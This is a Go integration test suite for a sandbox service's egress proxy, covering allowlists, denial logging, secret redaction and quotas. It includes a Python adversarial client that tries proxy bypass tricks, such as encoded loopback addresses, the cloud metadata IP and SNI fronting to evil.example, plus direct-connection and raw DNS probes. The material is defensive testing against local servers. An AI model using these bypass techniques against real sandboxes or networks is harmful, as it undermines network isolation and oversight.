package server

import (
	"bytes"
	"context"
	"crypto/rand"
	"crypto/sha256"
	"crypto/tls"
	"encoding/hex"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/cgi"
	"net/http/httptest"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"sandboxd/egress/gittest"

	"sandboxd/egress"
	"sandboxd/server/config"
)

// upstreams are real HTTP and HTTPS servers on the host's loopback that
// sandboxes reach through their egress proxy, under names of the test
// domain (resolved to 127.0.0.1 by the test's resolver).
type upstreams struct {
	http, https       *httptest.Server
	httpPort, tlsPort int
	caPEM             []byte
	big               []byte
	bigSum            string
}

const testDomain = "sandboxd.test"

func startUpstreams(t *testing.T) *upstreams {
	t.Helper()
	u := &upstreams{big: make([]byte, 8<<20)}
	rand.Read(u.big)
	sum := sha256.Sum256(u.big)
	u.bigSum = hex.EncodeToString(sum[:])
	mux := http.NewServeMux()
	mux.HandleFunc("/small", func(w http.ResponseWriter, r *http.Request) { fmt.Fprint(w, "hello from upstream") })
	mux.HandleFunc("/big", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Length", strconv.Itoa(len(u.big)))
		w.Write(u.big)
	})
	mux.Handle("/git/", gitServer(t))
	u.http = httptest.NewServer(mux)
	u.httpPort = u.http.Listener.Addr().(*net.TCPAddr).Port
	u.https = httptest.NewUnstartedServer(mux)
	cert, caPEM := testCert(t, "pkgs."+testDomain)
	u.https.TLS = &tls.Config{Certificates: []tls.Certificate{cert}}
	u.https.StartTLS()
	u.tlsPort = u.https.Listener.Addr().(*net.TCPAddr).Port
	u.caPEM = caPEM
	t.Cleanup(func() { u.http.Close(); u.https.Close() })
	return u
}

// gitServer serves a bare repository over git's smart HTTP protocol with
// the host's `git http-backend`: a real git server.
func gitServer(t *testing.T) http.Handler {
	t.Helper()
	root := t.TempDir()
	work := filepath.Join(root, "work")
	run := func(dir string, args ...string) {
		cmd := exec.Command("git", args...)
		cmd.Dir = dir
		cmd.Env = append(os.Environ(), "GIT_AUTHOR_NAME=t", "GIT_AUTHOR_EMAIL=t@t", "GIT_COMMITTER_NAME=t", "GIT_COMMITTER_EMAIL=t@t")
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("git %v: %v %s", args, err, out)
		}
	}
	os.MkdirAll(work, 0o755)
	run(work, "init", "-q", "-b", "main")
	os.WriteFile(filepath.Join(work, "README"), []byte("cloned through the egress proxy\n"), 0o644)
	run(work, "add", "README")
	run(work, "commit", "-q", "-m", "first")
	run(root, "clone", "-q", "--bare", work, "repo.git")
	backend, err := exec.Command("git", "--exec-path").Output()
	if err != nil {
		t.Fatal(err)
	}
	return http.StripPrefix("/git", &cgi.Handler{
		Path: filepath.Join(strings.TrimSpace(string(backend)), "git-http-backend"),
		Env:  []string{"GIT_PROJECT_ROOT=" + root, "GIT_HTTP_EXPORT_ALL=1"},
	})
}

// testCert makes a CA and a leaf certificate for host signed by it.
func testCert(t *testing.T, host string) (tls.Certificate, []byte) { return gittest.CertFor(t, host) }

// egressTestConfig: a real server whose proxy may reach loopback (where the
// upstreams are) and resolves the test domain there.
func egressTestConfig(t *testing.T, u *upstreams) *config.Config {
	cfg := realConfig(t)
	cfg.Egress.AllowNetworks = append(cfg.Egress.AllowNetworks, "127.0.0.0/8")
	cfg.Egress.Allowlist = append(cfg.Egress.Allowlist,
		egressRule("pkgs."+testDomain, u.httpPort, u.tlsPort),
		egressRule("*.mirror."+testDomain, u.httpPort))
	cfg.EgressResolver = testResolver{}
	cfg.Sizes.List = append(cfg.Sizes.List,
		config.Size{Name: "test-egress", VCPUs: 1, MemoryMiB: 512, DiskMiB: 512, Pids: 512, CreditsPerHour: 1000, EgressMiB: 256},
		config.Size{Name: "test-quota", VCPUs: 1, MemoryMiB: 512, DiskMiB: 256, Pids: 512, CreditsPerHour: 1000, EgressMiB: 2})
	return cfg
}

// testResolver maps the test domain to loopback and knows no other name.
type testResolver struct{}

func (testResolver) LookupNetIP(ctx context.Context, network, host string) ([]netip.Addr, error) {
	if host == testDomain || strings.HasSuffix(host, "."+testDomain) {
		return []netip.Addr{netip.MustParseAddr("127.0.0.1")}, nil
	}
	return nil, &net.DNSError{Err: "no such host", Name: host, IsNotFound: true}
}

func egressRule(host string, ports ...int) egress.Rule { return egress.Rule{Host: host, Ports: ports} }

// logsText returns a session's retained log (JSON lines).
func (h *harness) logsText(id string) string {
	h.t.Helper()
	code, b := h.call(h.token, "GET", "/v1/sandbox/"+id+"/logs", nil)
	if code != http.StatusOK {
		h.t.Fatalf("logs %s: %d %s", id, code, b)
	}
	return string(b)
}

// adversarialProxyClient runs inside a sandbox: raw CONNECT requests and
// tunnels that try to get somewhere the allowlist does not allow. It
// prints one "name: result" line per probe.
const adversarialProxyClient = `
import socket, ssl, sys
PROXY = ("10.200.0.1", 3128)
http_port, tls_port = int(sys.argv[1]), int(sys.argv[2])

def connect(target):
    s = socket.create_connection(PROXY, timeout=10)
    s.sendall(("CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (target, target)).encode())
    resp = b""
    while b"\r\n\r\n" not in resp:
        b = s.recv(4096)
        if not b:
            break
        resp += b
    status = resp.split(b" ", 2)[1].decode() if resp.startswith(b"HTTP/") else "none"
    return s, status

def probe(name, target):
    s, status = connect(target)
    s.close()
    print("%s: %s" % (name, status))

probe("loopback-short", "127.1:%d" % tls_port)
probe("loopback-hex", "0x7f000001:%d" % tls_port)
probe("loopback-decimal", "2130706433:%d" % tls_port)
probe("loopback-octal", "0177.0.0.1:%d" % tls_port)
probe("mapped-v6", "[::ffff:127.0.0.1]:%d" % tls_port)
probe("bracketed-name", "[pkgs.sandboxd.test]:%d" % tls_port)
probe("metadata", "169.254.169.254:80")
probe("sandbox-itself", "10.200.0.2:8000")
probe("unlisted-port", "pkgs.sandboxd.test:22")
probe("trailing-dot", "pkgs.sandboxd.test.:%d" % tls_port)
probe("upper-case", "PKGS.SANDBOXD.TEST:%d" % tls_port)

# TLS with an SNI that is not the CONNECT host (domain fronting).
def tls_probe(name, sni):
    s, status = connect("pkgs.sandboxd.test:%d" % tls_port)
    if status != "200":
        print("%s: connect %s" % (name, status)); return
    ctx = ssl.create_default_context(cafile="/tmp/ca.pem")
    ctx.check_hostname = False
    try:
        t = ctx.wrap_socket(s, server_hostname=sni)
        t.sendall(b"GET /small HTTP/1.1\r\nHost: pkgs.sandboxd.test\r\nConnection: close\r\n\r\n")
        data = t.recv(4096)
        print("%s: open %s" % (name, b"hello" in data))
    except Exception as e:
        print("%s: refused" % name)
tls_probe("sni-match", "pkgs.sandboxd.test")
tls_probe("sni-mismatch", "evil.example")

# Plain HTTP inside a tunnel: another Host, and an absolute-form request.
def read_all(s, data=b""):
    try:
        while True:
            b = s.recv(4096)
            if not b:
                break
            data += b
    except Exception:
        pass
    return data

def http_in_tunnel(name, req):
    s, status = connect("pkgs.sandboxd.test:%d" % http_port)
    if status != "200":
        print("%s: connect %s" % (name, status)); return
    s.sendall(req)
    data = read_all(s)
    print("%s: %s" % (name, "hello" in data.decode("latin1") and "open" or "refused"))
http_in_tunnel("tunnel-same-host", b"GET /small HTTP/1.1\r\nHost: pkgs.sandboxd.test\r\nConnection: close\r\n\r\n")
http_in_tunnel("tunnel-host-mismatch", b"GET /small HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n")
http_in_tunnel("tunnel-absolute-form", b"GET http://evil.example/small HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n")
# Lenient servers (Python's) take these for requests; the proxy must too.
http_in_tunnel("tunnel-leading-space", b" GET /small HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n")
http_in_tunnel("tunnel-blank-line-first", b" \r\nGET /small HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n")
http_in_tunnel("tunnel-blank-line-same-host", b"\r\nGET /small HTTP/1.1\r\nHost: pkgs.sandboxd.test\r\nConnection: close\r\n\r\n")

# Keep-alive: the first request is answered, a second one naming another
# virtual host on the same connection must not reach the upstream.
def second_request(name, host):
    s, status = connect("pkgs.sandboxd.test:%d" % http_port)
    if status != "200":
        print("%s: connect %s" % (name, status)); return
    s.sendall(b"GET /small HTTP/1.1\r\nHost: pkgs.sandboxd.test\r\n\r\n")
    data = b""
    while b"hello" not in data:
        b = s.recv(4096)
        if not b:
            break
        data += b
    s.sendall(b"GET /small HTTP/1.1\r\nHost: " + host + b"\r\nConnection: close\r\n\r\n")
    print("%s: %d" % (name, read_all(s, data).count(b"hello")))
second_request("tunnel-second-same-host", b"pkgs.sandboxd.test")
second_request("tunnel-second-host-mismatch", b"evil.example")
`

func TestRealEgress(t *testing.T) {
	u := startUpstreams(t)
	cfg := egressTestConfig(t, u)
	h := startServer(t, cfg)
	h.provision("eg1", "test-egress")
	ca := h.exec("eg1", map[string]any{"command": "cat > /tmp/ca.pem", "stdin": string(u.caPEM)})
	if ca.ExitCode != 0 {
		t.Fatalf("write ca: %+v", ca)
	}
	pkgs := func(scheme string, port int, path string) string {
		return fmt.Sprintf("%s://pkgs.%s:%d%s", scheme, testDomain, port, path)
	}

	t.Run("allowed host through the proxy env", func(t *testing.T) {
		r := h.sh("eg1", "curl -sS -m 20 "+pkgs("http", u.httpPort, "/small")+"; echo; curl -sS -m 20 --cacert /tmp/ca.pem "+pkgs("https", u.tlsPort, "/small"))
		if r.ExitCode != 0 || strings.Count(r.Stdout, "hello from upstream") != 2 {
			t.Fatalf("%+v", r)
		}
		// pip-like: Python's urllib over HTTPS through HTTPS_PROXY, a large file.
		r = h.sh("eg1", `python3 -c 'import hashlib, ssl, sys, urllib.request
ctx = ssl.create_default_context(cafile="/tmp/ca.pem")
print(hashlib.sha256(urllib.request.urlopen(sys.argv[1], context=ctx).read()).hexdigest())' `+pkgs("https", u.tlsPort, "/big"))
		if r.ExitCode != 0 || strings.TrimSpace(r.Stdout) != u.bigSum {
			t.Fatalf("python download: %+v", r)
		}
		// git: a clone over smart HTTP from a real git server.
		r = h.sh("eg1", "git clone -q "+pkgs("http", u.httpPort, "/git/repo.git")+" /tmp/repo && cat /tmp/repo/README")
		if r.ExitCode != 0 || !strings.Contains(r.Stdout, "cloned through the egress proxy") {
			t.Fatalf("git clone: %+v", r)
		}
		// A wildcard rule.
		r = h.sh("eg1", fmt.Sprintf("curl -sS -m 20 http://deb.mirror.%s:%d/small", testDomain, u.httpPort))
		if r.ExitCode != 0 || !strings.Contains(r.Stdout, "hello") {
			t.Fatalf("wildcard: %+v", r)
		}
	})

	t.Run("denied host fails fast with a clear error and an event", func(t *testing.T) {
		t0 := time.Now()
		r := h.sh("eg1", "curl -sS -m 20 http://denied."+testDomain+":"+strconv.Itoa(u.httpPort)+"/small; echo http=$?; curl -sS -m 20 https://evil.example/; echo https=$?")
		if time.Since(t0) > 10*time.Second || strings.Contains(r.Stdout, "hello") || !strings.Contains(r.Stdout, "http=22") && !strings.Contains(r.Stderr, "403") {
			t.Fatalf("%+v", r)
		}
		if !strings.Contains(r.Stderr, "403") {
			t.Fatalf("https denial should say 403: %+v", r)
		}
		r = h.sh("eg1", "curl -s -m 20 http://denied."+testDomain+":"+strconv.Itoa(u.httpPort)+"/small")
		if !strings.Contains(r.Stdout, "allowlist") {
			t.Fatalf("denial body should name the allowlist: %+v", r)
		}
		deadline := time.Now().Add(5 * time.Second)
		for !strings.Contains(h.logsText("eg1"), `"egress_denied"`) || !strings.Contains(h.logsText("eg1"), "evil.example") {
			if time.Now().After(deadline) {
				t.Fatalf("no egress_denied event: %s", h.logsText("eg1"))
			}
			time.Sleep(100 * time.Millisecond)
		}
	})

	t.Run("secrets in host names stay out of events and the audit log", func(t *testing.T) {
		const secret = "AbCdEfGh12345678XyZ"
		code, b := h.call(h.token, "POST", "/v1/sandbox", map[string]any{"sessionId": "egsec", "size": "test-egress", "secrets": map[string]string{"API_KEY": secret}})
		if code != http.StatusCreated {
			t.Fatalf("%d %s", code, b)
		}
		h.sh("egsec", fmt.Sprintf("curl -s -m 10 http://$API_KEY.mirror.%s:%d/small; curl -s -m 10 http://$API_KEY.evil.example/", testDomain, u.httpPort))
		if code, b := h.call(h.token, "POST", "/v1/sandbox/egsec/teardown", nil); code != http.StatusOK {
			t.Fatalf("teardown: %d %s", code, b)
		}
		var audit []byte
		for deadline := time.Now().Add(5 * time.Second); time.Now().Before(deadline); time.Sleep(100 * time.Millisecond) {
			if _, audit = h.call(h.token, "GET", "/v1/audit?sessionId=egsec", nil); strings.Contains(string(audit), "egress.summary") {
				break // the audit log is written asynchronously
			}
		}
		logs := h.logsText("egsec")
		for _, form := range []string{secret, strings.ToLower(secret)} {
			if strings.Contains(logs, form) || strings.Contains(string(audit), form) {
				t.Fatalf("secret %q leaked:\nlogs: %s\naudit: %s", form, logs, audit)
			}
		}
		if !strings.Contains(string(audit), "egress.summary") || !strings.Contains(string(audit), "[REDACTED:API_KEY]") || !strings.Contains(logs, "egress_denied") {
			t.Fatalf("expected a redacted summary and a denial:\nlogs: %s\naudit: %s", logs, audit)
		}
	})

	t.Run("metrics count bytes and denials", func(t *testing.T) {
		resp, err := http.Get(h.ts.URL + "/metrics")
		if err != nil {
			t.Fatal(err)
		}
		b, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		m := string(b)
		if !strings.Contains(m, `sandboxd_egress_denied_total{reason="not_allowlisted"}`) || !strings.Contains(m, "sandboxd_egress_bytes_total ") ||
			strings.Contains(m, "sandboxd_egress_bytes_total 0\n") {
			t.Fatalf("metrics:\n%s", m)
		}
	})

	t.Run("no way around the proxy", func(t *testing.T) {
		// A listener on every host address: none is reachable from inside.
		hostLn, err := net.Listen("tcp", ":0")
		if err != nil {
			t.Fatal(err)
		}
		defer hostLn.Close()
		go func() {
			for {
				c, err := hostLn.Accept()
				if err != nil {
					return
				}
				c.Write([]byte("HTTP/1.0 200 OK\r\n\r\nhost-reached"))
				c.Close()
			}
		}()
		port := hostLn.Addr().(*net.TCPAddr).Port
		apiPort := h.ts.Listener.Addr().(*net.TCPAddr).Port
		targets := []string{"127.0.0.1:" + strconv.Itoa(apiPort), "127.0.0.1:" + strconv.Itoa(port), "169.254.169.254:80", "1.1.1.1:80", "10.200.0.1:22"}
		addrs, _ := net.InterfaceAddrs()
		for _, a := range addrs {
			if ipn, ok := a.(*net.IPNet); ok && ipn.IP.To4() != nil && !ipn.IP.IsLoopback() {
				targets = append(targets, net.JoinHostPort(ipn.IP.String(), strconv.Itoa(port)), net.JoinHostPort(ipn.IP.String(), strconv.Itoa(apiPort)))
			}
		}
		var script strings.Builder
		for _, tg := range targets {
			fmt.Fprintf(&script, "curl -s --noproxy '*' -m 3 http://%s/ ; echo \" direct %s=$?\"\n", tg, tg)
			fmt.Fprintf(&script, "curl -sf --noproxy '' -m 3 http://%s/ ; echo \" proxied %s=$?\"\n", tg, tg)
		}
		t0 := time.Now()
		r := h.sh("eg1", script.String())
		if strings.Contains(r.Stdout, "host-reached") || strings.Contains(r.Stdout, `"status"`) {
			t.Fatalf("reached the host: %s", r.Stdout)
		}
		for _, tg := range targets {
			if strings.Contains(r.Stdout, " direct "+tg+"=0") {
				t.Fatalf("direct %s succeeded: %s", tg, r.Stdout)
			}
			if !strings.Contains(r.Stdout, " proxied "+tg+"=22") && !strings.Contains(r.Stdout, " proxied "+tg+"=7") {
				t.Fatalf("proxied %s not refused: %s", tg, r.Stdout)
			}
		}
		if d := time.Since(t0); d > time.Duration(len(targets))*3*time.Second {
			t.Fatalf("probes took %v: something hung instead of failing", d)
		}
		// No DNS: names resolve only at the proxy.
		r = h.sh("eg1", `getent hosts pkgs.sandboxd.test; echo getent=$?; python3 -c 'import socket; socket.getaddrinfo("pypi.org", 443)' 2>&1 | tail -1; timeout 3 python3 -c 'import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2); s.sendto(b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x05pypi\x03org\x00\x00\x01\x00\x01", ("10.200.0.1", 53)); print("dns answer", s.recv(512))' 2>&1 | tail -1`)
		if !strings.Contains(r.Stdout, "getent=2") || !strings.Contains(r.Stdout, "gaierror") || strings.Contains(r.Stdout, "dns answer") {
			t.Fatalf("dns: %+v", r)
		}
	})

	t.Run("hostile CONNECT forms and tunnels", func(t *testing.T) {
		r := h.exec("eg1", map[string]any{"command": "python3 - " + strconv.Itoa(u.httpPort) + " " + strconv.Itoa(u.tlsPort), "stdin": adversarialProxyClient})
		want := map[string]string{
			"loopback-short": "403", "loopback-hex": "403", "loopback-decimal": "403", "loopback-octal": "403",
			"mapped-v6": "403", "metadata": "403", "sandbox-itself": "403", "unlisted-port": "403",
			"bracketed-name": "400|403", "trailing-dot": "200", "upper-case": "200",
			"sni-match": "open True", "sni-mismatch": "refused",
			"tunnel-same-host": "open", "tunnel-host-mismatch": "refused", "tunnel-absolute-form": "refused",
			"tunnel-second-same-host": "2", "tunnel-second-host-mismatch": "1",
			"tunnel-leading-space": "refused", "tunnel-blank-line-first": "refused",
		}
		got := map[string]string{}
		for _, ln := range strings.Split(strings.TrimSpace(r.Stdout), "\n") {
			if k, v, ok := strings.Cut(ln, ": "); ok {
				got[k] = v
			}
		}
		for k, w := range want {
			ok := false
			for _, alt := range strings.Split(w, "|") {
				ok = ok || got[k] == alt
			}
			if !ok {
				t.Errorf("%s: got %q, want %q", k, got[k], w)
			}
		}
		if t.Failed() {
			t.Logf("output: %+v", r)
		}
	})

	t.Run("usage is saved while traffic flows, not only every 5 s", func(t *testing.T) {
		stored := func() int64 {
			ses, err := h.s.db.GetSession(context.Background(), h.get("eg1").OrgID, "eg1")
			if err != nil {
				t.Fatal(err)
			}
			return ses.EgressBytesUsed
		}
		before := stored()
		r := h.sh("eg1", "curl -sS -m 30 -o /dev/null "+pkgs("http", u.httpPort, "/big"))
		if r.ExitCode != 0 {
			t.Fatalf("download: %+v", r)
		}
		// test-egress's 256 MiB quota reports every 4 MiB; the store writes
		// in the background within ~50 ms. A crash now would lose at most one step.
		deadline := time.Now().Add(time.Second)
		for stored() < before+(8<<20)-(4<<20) {
			if time.Now().After(deadline) {
				t.Fatalf("stored usage %d, %d before an 8 MiB download", stored(), before)
			}
			time.Sleep(20 * time.Millisecond)
		}
	})

	t.Run("quota cuts a download and refuses more", func(t *testing.T) {
		h.provision("q1", "test-quota")
		r := h.sh("q1", "curl -sS -m 30 -o /dev/null -w 'got=%{size_download}\\n' "+pkgs("http", u.httpPort, "/big")+"; echo rc=$?")
		if strings.Contains(r.Stdout, "rc=0") {
			t.Fatalf("an 8 MiB download passed a 2 MiB quota: %+v", r)
		}
		r = h.sh("q1", "curl -s -m 20 "+pkgs("http", u.httpPort, "/small")+"; echo; curl -sS -m 20 --cacert /tmp/ca.pem "+pkgs("https", u.tlsPort, "/small"))
		if strings.Contains(r.Stdout, "hello") || !strings.Contains(r.Stdout, "quota") || !strings.Contains(r.Stderr, "403") {
			t.Fatalf("after the quota: %+v", r)
		}
		o := h.get("q1")
		if o.Egress.BytesUsed != 2<<20 || o.Egress.BytesLimit != 2<<20 {
			t.Fatalf("usage %+v", o.Egress)
		}
		if !strings.Contains(h.logsText("q1"), `"quota_exceeded"`) {
			t.Fatalf("no quota_exceeded event: %s", h.logsText("q1"))
		}
		// Parallel connections in another session: together they stop at the quota.
		h.provision("q2", "test-quota")
		// A curl that starts after the quota is spent gets the proxy's own
		// 403 body; only upstream bytes (200 answers) count.
		r = h.sh("q2", "for i in 1 2 3 4; do curl -s -m 30 -o /dev/null -w '%{http_code} %{size_download}\\n' "+pkgs("http", u.httpPort, "/big")+" & done; wait")
		total := 0
		for _, line := range strings.Split(strings.TrimSpace(r.Stdout), "\n") {
			code, size, _ := strings.Cut(line, " ")
			n, err := strconv.Atoi(size)
			if err != nil {
				t.Fatalf("curl output %q: %+v", line, r)
			}
			if code == "200" {
				total += n
			} else if code != "403" && code != "000" {
				t.Fatalf("download answered %s: %+v", code, r)
			}
		}
		if total > 2<<20 {
			t.Fatalf("parallel downloads got %d bytes past a 2 MiB quota: %+v", total, r)
		}
		// Keep-alive: many requests on one connection are all counted.
		h.provision("q3", "test-quota")
		var urls bytes.Buffer
		for i := 0; i < 300; i++ {
			fmt.Fprintf(&urls, "url = %q\noutput = \"/dev/null\"\n", pkgs("http", u.httpPort, "/small"))
		}
		h.exec("q3", map[string]any{"command": "cat > /tmp/urls", "stdin": urls.String()})
		r = h.sh("q3", "curl -s -K /tmp/urls -w '%{num_connects}\\n' | sort | uniq -c")
		if o := h.get("q3"); o.Egress.BytesUsed < 300*19 {
			t.Fatalf("keep-alive requests not counted: %+v %+v", o.Egress, r)
		}
	})

	t.Run("usage and the proxy survive a restart", func(t *testing.T) {
		before := h.get("q1").Egress.BytesUsed
		h.close()
		h2 := startServer(t, cfg)
		if got := h2.get("q1").Egress.BytesUsed; got < before {
			t.Fatalf("usage after restart %d < %d", got, before)
		}
		r := h2.sh("eg1", "curl -sS -m 20 "+pkgs("http", u.httpPort, "/small"))
		if r.ExitCode != 0 || !strings.Contains(r.Stdout, "hello") {
			t.Fatalf("proxy after restart: %+v", r)
		}
		r = h2.sh("q1", "curl -s -m 20 "+pkgs("http", u.httpPort, "/small"))
		if !strings.Contains(r.Stdout, "quota") {
			t.Fatalf("quota after restart: %+v", r)
		}

		// A project's own allowlist (operator config) narrows what its
		// sessions reach: here plain HTTP to the test host only.
		proj := h2.get("eg1").ProjectID
		h2.close()
		ec := *cfg.Egress
		ec.Projects = map[string][]egress.Rule{proj: {egressRule("pkgs."+testDomain, u.httpPort)}}
		cfg.Egress = &ec
		h3 := startServer(t, cfg)
		r = h3.sh("eg1", "curl -sSf -m 20 "+pkgs("http", u.httpPort, "/small")+"; echo; curl -sSf -m 20 --cacert /tmp/ca.pem "+pkgs("https", u.tlsPort, "/small")+"; echo rc=$?")
		if !strings.Contains(r.Stdout, "hello from upstream") || !strings.Contains(r.Stdout, "rc=56") && !strings.Contains(r.Stdout, "rc=22") {
			t.Fatalf("project allowlist: %+v", r)
		}
	})
}
